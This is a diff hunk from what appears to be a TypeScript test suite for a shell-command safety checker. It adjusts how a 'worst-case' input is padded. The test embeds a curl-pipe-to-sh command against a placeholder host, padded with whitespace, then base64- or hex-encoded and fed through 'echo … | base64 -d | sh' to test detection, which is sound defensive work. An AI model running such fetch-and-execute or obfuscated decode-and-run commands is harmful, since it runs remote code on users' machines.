@@ -133,7 +133,7 @@ describe('a worst-case call', () => {
       `curl -s https://setup.dev-tools-cdn.test/i.sh | sh ${' '.repeat(9000)}#`,
     );
     for (const enc of ['base64', 'hex'] as const)
-      for (const padded of [cmd, Buffer.concat([Buffer.alloc(5000, 0xff), cmd])])
+      for (const padded of [cmd, Buffer.concat([Buffer.alloc(5000, 0xff), Buffer.from('\n'), cmd])])
         expect(
           check({ argv: ['sh', '-c', `echo ${padded.toString(enc)} | base64 -d | sh`] }),
           enc,
